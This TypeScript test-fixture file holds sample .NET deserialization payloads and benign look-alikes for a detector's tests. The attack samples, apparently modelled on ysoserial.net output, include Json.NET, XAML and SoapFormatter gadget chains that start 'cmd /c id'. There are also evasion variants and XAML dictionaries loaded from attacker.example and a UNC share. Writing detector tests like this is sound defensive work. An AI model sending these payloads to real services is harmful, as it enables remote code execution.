/**
 * Hand-written text-formatter payloads (shapes of ysoserial.net output and of
 * ordinary traffic) for the .NET text detector tests and signature samples.
 */
const MSCORLIB = 'mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089';
const SYSTEM = 'System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089';
const PF = 'PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35';
const ODP = `System.Windows.Data.ObjectDataProvider, ${PF}`;

const odpBody = (typeKey: string, q = '"'): string =>
  `{${q}${typeKey}${q}:${q}${ODP}${q},${q}MethodName${q}:${q}Start${q},${q}MethodParameters${q}:{${q}$type${q}:${q}System.Collections.ArrayList, ${MSCORLIB}${q},${q}$values${q}:[${q}cmd${q},${q}/c id${q}]},${q}ObjectInstance${q}:{${q}$type${q}:${q}System.Diagnostics.Process, ${SYSTEM}${q}}}`;

export const XAML_ODP =
  '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" ' +
  'xmlns:s="clr-namespace:System;assembly=mscorlib" xmlns:sd="clr-namespace:System.Diagnostics;assembly=system">' +
  '<ObjectDataProvider x:Key="k" ObjectType="{x:Type sd:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters>' +
  '<s:String>cmd</s:String><s:String>/c id</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>';

const xmlEscape = (s: string): string => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

export const JSON_ATTACKS: Record<string, string> = {
  jsonnet: odpBody('$type'),
  'single quotes (ysoserial.net template)': odpBody('$type', "'"),
  'spacing in the assembly name': `{"$type" : "System.Windows.Data.ObjectDataProvider , PresentationFramework , Version = 4.0.0.0 , Culture = neutral", "MethodName": "Start"}`,
  '$type not first': `{"MethodName":"Start","ObjectInstance":{"x":1},"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`,
  'nested in a DTO': `{"id":7,"order":{"lines":[{"sku":"a"},{"meta":{"$type":"${ODP}","MethodName":"Start"}}]}}`,
  comments: `{ /* c */ "$type" /* d */ : // e\n "System.Windows.Data.ObjectDataProvider, PresentationFramework" }`,
  'escaped key and value': `{"\\u0024type":"System.Windows.Data.Object\\u0044ataProvider, PresentationFramework"}`,
  'unquoted key': `{$type:'System.Windows.Data.ObjectDataProvider, PresentationFramework'}`,
  'JSON inside a JSON string': JSON.stringify({ settings: odpBody('$type') }),
  'gadget as generic argument': `{"$type":"System.Collections.Generic.List\`1[[System.Diagnostics.Process, System]], mscorlib","$values":[]}`,
  'WindowsIdentity with bootstrap context': `{"$type":"System.Security.Principal.WindowsIdentity, ${MSCORLIB}","System.Security.ClaimsIdentity.bootstrapContext":"AAEAAAD/////AQAAAAAAAAAMAgAAAA=="}`,
  'JavaScriptSerializer __type': `{"__type":"${ODP}","MethodName":"Start"}`,
  'DataContractJsonSerializer __type': `{"__type":"WindowsIdentity:#System.Security.Principal","x":1}`,
  'fastJSON $types': `{"$types":{"${ODP.replaceAll('=', ' = ')}":"1","System.Diagnostics.Process, System":"2"},"$type":"1","MethodName":"Start"}`,
  'TextFormattingRunProperties': `{"$type":"Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor","ForegroundBrush":"<x/>"}`,
};

export const JSON_BENIGN: Record<string, string> = {
  'app DTO': `{"$type": "Contoso.Api.Dto.CustomerDto, Contoso.Api", "Id": 5, "Lines": [{"$type": "MyShop.Models.OrderLine, MyShop", "Qty": 2}]}`,
  'generic of app types': `{"$type":"System.Collections.Generic.List\`1[[MyShop.Item, MyShop]], mscorlib","$values":[]}`,
  'fastJSON ref': `{"$type":"1","a":2}`,
  'GraphQL __typename': `{"data":{"user":{"__typename":"User","id":"1","process":"System.Diagnostics.Process"}}}`,
  'JSON-LD @type': `{"@context":"https://schema.org","@type":"Product","name":"ObjectDataProvider book"}`,
  'type property': `{"type":"System.Data.DataSet","name":"ObjectDataProvider"}`,
  'prose': 'The $type key of Json.NET must never name System.Windows.Data.ObjectDataProvider in production.',
};

export const SOAP_TFRP =
  '<SOAP-ENV:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/" ' +
  'xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" xmlns:clr="http://schemas.microsoft.com/soap/encoding/clr/1.0">\n<SOAP-ENV:Body>\n' +
  '<a1:TextFormattingRunProperties id="ref-1" xmlns:a1="http://schemas.microsoft.com/clr/nsassem/Microsoft.VisualStudio.Text.Formatting/Microsoft.PowerShell.Editor%2C%20Version%3D3.0.0.0%2C%20Culture%3Dneutral">\n' +
  `<ForegroundBrush id="ref-3">${xmlEscape(XAML_ODP)}</ForegroundBrush>\n</a1:TextFormattingRunProperties>\n</SOAP-ENV:Body>\n</SOAP-ENV:Envelope>`;

export const SOAP_DSH =
  '<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body>' +
  '<a2:DelegateSerializationHolder id="ref-1" xmlns:a2="http://schemas.microsoft.com/clr/ns/System"><Delegate href="#ref-2"/></a2:DelegateSerializationHolder>' +
  '</SOAP-ENV:Body></SOAP-ENV:Envelope>';

export const SOAP_AXHOST =
  '<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body>' +
  '<a1:AxHost_x002B_State id="ref-1" xmlns:a1="http://schemas.microsoft.com/clr/nsassem/System.Windows.Forms/System.Windows.Forms%2C%20Version%3D4.0.0.0"><PropertyBagBinary href="#ref-2"/></a1:AxHost_x002B_State>' +
  '</SOAP-ENV:Body></SOAP-ENV:Envelope>';

export const SOAP_XSI_TYPE =
  '<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ' +
  'xmlns:a3="http://schemas.microsoft.com/clr/nsassem/System.Drawing.Design/System.Drawing.Design"><SOAP-ENV:Body>' +
  '<Holder id="ref-1"><Item xsi:type="a3:ToolboxItemContainer" href="#ref-2"/></Holder></SOAP-ENV:Body></SOAP-ENV:Envelope>';

export const NDCS_TYPECONFUSE =
  `<ArrayOfstring z:Id="1" z:Type="System.Collections.Generic.SortedSet\`1[[System.String, ${MSCORLIB}]]" z:Assembly="${SYSTEM}" ` +
  'xmlns="http://schemas.microsoft.com/2003/10/Serialization/Arrays" xmlns:i="http://www.w3.org/2001/XMLSchema-instance" ' +
  'xmlns:z="http://schemas.microsoft.com/2003/10/Serialization/"><Count z:Id="2" z:Type="System.Int32" z:Assembly="0" xmlns="">2</Count>' +
  `<Comparer z:Id="3" z:Type="System.Collections.Generic.ComparisonComparer\`1[[System.String, ${MSCORLIB}]]" z:Assembly="0" xmlns="">` +
  '<_comparison z:Id="4" z:FactoryType="a:DelegateSerializationHolder" z:Type="System.DelegateSerializationHolder" z:Assembly="0" ' +
  'xmlns="http://schemas.datacontract.org/2004/07/System.Collections.Generic" xmlns:a="http://schemas.datacontract.org/2004/07/System"/></Comparer></ArrayOfstring>';

export const NDCS_PSOBJECT =
  "<root><PSObject z:Id='1' z:Type='System.Management.Automation.PSObject' z:Assembly='System.Management.Automation, Version=3.0.0.0' " +
  "xmlns:z='http://schemas.microsoft.com/2003/10/Serialization/'><CliXml z:Id='2'>&lt;Objs/&gt;</CliXml></PSObject></root>";

export const XMLSERIALIZER_EXPANDED_WRAPPER =
  `<root type="System.Data.Services.Internal.ExpandedWrapper\`2[[System.Web.UI.LosFormatter, System.Web, Version=4.0.0.0],[System.Windows.Data.ObjectDataProvider, ${PF}]], System.Data.Services, Version=4.0.0.0">` +
  '<ExpandedWrapperOfLosFormatterObjectDataProvider xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><ProjectedProperty0>' +
  '<ObjectInstance xsi:type="LosFormatter"/><MethodName>Deserialize</MethodName><MethodParameters><anyType xsi:type="xsd:string">/wEy</anyType></MethodParameters>' +
  '</ProjectedProperty0></ExpandedWrapperOfLosFormatterObjectDataProvider></root>';

export const XMLSERIALIZER_ESCAPED_TYPE = `<item type="System.Windows.Forms.AxHost&#43;State, System.Windows.Forms"><x/></item>`;

export const XML_ATTACKS: Record<string, string> = {
  'SoapFormatter TextFormattingRunProperties': SOAP_TFRP,
  'SoapFormatter /clr/ns/ DelegateSerializationHolder': SOAP_DSH,
  'SoapFormatter XmlConvert-encoded nested type': SOAP_AXHOST,
  'SoapFormatter xsi:type into a clr namespace': SOAP_XSI_TYPE,
  'NetDataContractSerializer TypeConfuseDelegate': NDCS_TYPECONFUSE,
  'NetDataContractSerializer PSObject (single quotes)': NDCS_PSOBJECT,
  'XmlSerializer ExpandedWrapper': XMLSERIALIZER_EXPANDED_WRAPPER,
  'XmlSerializer escaped type attribute': XMLSERIALIZER_ESCAPED_TYPE,
};

export const XAML_ATTACKS: Record<string, string> = {
  'ObjectDataProvider Process.Start': XAML_ODP,
  'ObjectDataProvider property elements': `<ObjectDataProvider xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ObjectDataProvider.ObjectInstance><XamlReaderStub/></ObjectDataProvider.ObjectInstance><ObjectDataProvider.MethodName>Parse</ObjectDataProvider.MethodName></ObjectDataProvider>`,
  'prefixed ObjectDataProvider': `<w:ObjectDataProvider xmlns:w="http://schemas.microsoft.com/winfx/2006/xaml/presentation" MethodName = 'Load'/>`,
  'remote ResourceDictionary (--xamlurl)': `<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" Source="http://attacker.example/x.xaml"/>`,
  'merged remote dictionary over UNC': `<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ResourceDictionary.MergedDictionaries><ResourceDictionary Source='\\\\evil\\share\\x.xaml'/></ResourceDictionary.MergedDictionaries></ResourceDictionary>`,
  'ProcessStartInfo via clr-namespace': `<Page xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:d="clr-namespace:System.Diagnostics;assembly=System"><Page.Resources><d:ProcessStartInfo x:Key="p" FileName="cmd"/></Page.Resources></Page>`,
  'escaped XAML inside XML': `<ForegroundBrush>${xmlEscape(XAML_ODP)}</ForegroundBrush>`,
};

export const XML_BENIGN: Record<string, string> = {
  'ordinary SOAP': '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ord="http://example.com/orders"><soapenv:Body><ord:GetOrder><ord:id type="int">38951</ord:id></ord:GetOrder></soapenv:Body></soapenv:Envelope>',
  'SoapFormatter with application types': '<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body><a1:OrderDto id="ref-1" xmlns:a1="http://schemas.microsoft.com/clr/nsassem/Contoso.Orders/Contoso.Orders%2C%20Version%3D1.0.0.0"><Id>5</Id></a1:OrderDto></SOAP-ENV:Body></SOAP-ENV:Envelope>',
  'DataContractSerializer with IsReference ids': '<Order z:Id="i1" xmlns="http://schemas.datacontract.org/2004/07/Shop" xmlns:i="http://www.w3.org/2001/XMLSchema-instance" xmlns:z="http://schemas.microsoft.com/2003/10/Serialization/"><Customer z:Ref="i2" i:type="VipCustomer"/></Order>',
  'NetDataContractSerializer of an app type': '<Cart z:Id="1" z:Type="MyShop.Models.Cart" z:Assembly="MyShop, Version=1.0.0.0" xmlns:z="http://schemas.microsoft.com/2003/10/Serialization/"><Id>3</Id></Cart>',
  'HTML form': '<form><input type="text" name="q"><input type="submit" value="ObjectDataProvider"></form><script type="text/javascript">var process = 1;</script>',
  'WPF enum binding': `<Window xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:sys="clr-namespace:System;assembly=mscorlib" xmlns:local="clr-namespace:MyApp"><Window.Resources><ObjectDataProvider x:Key="vals" MethodName="GetValues" ObjectType="{x:Type sys:Enum}"><ObjectDataProvider.MethodParameters><x:Type TypeName="local:Color"/></ObjectDataProvider.MethodParameters></ObjectDataProvider><ResourceDictionary Source="/Themes/Generic.xaml"/></Window.Resources></Window>`,
  'WPF trace sources': `<Window xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:diag="clr-namespace:System.Diagnostics;assembly=WindowsBase"><TextBlock Text="{Binding Name, diag:PresentationTraceSources.TraceLevel=High}"/></Window>`,
  'prose about ObjectDataProvider': 'Docs: ObjectDataProvider wraps an object; set MethodName to call a method. ResourceDictionary Source can be relative.',
  'config file': '<configuration><configSections><section name="x" type="System.Configuration.NameValueSectionHandler, System"/></configSections></configuration>',
};
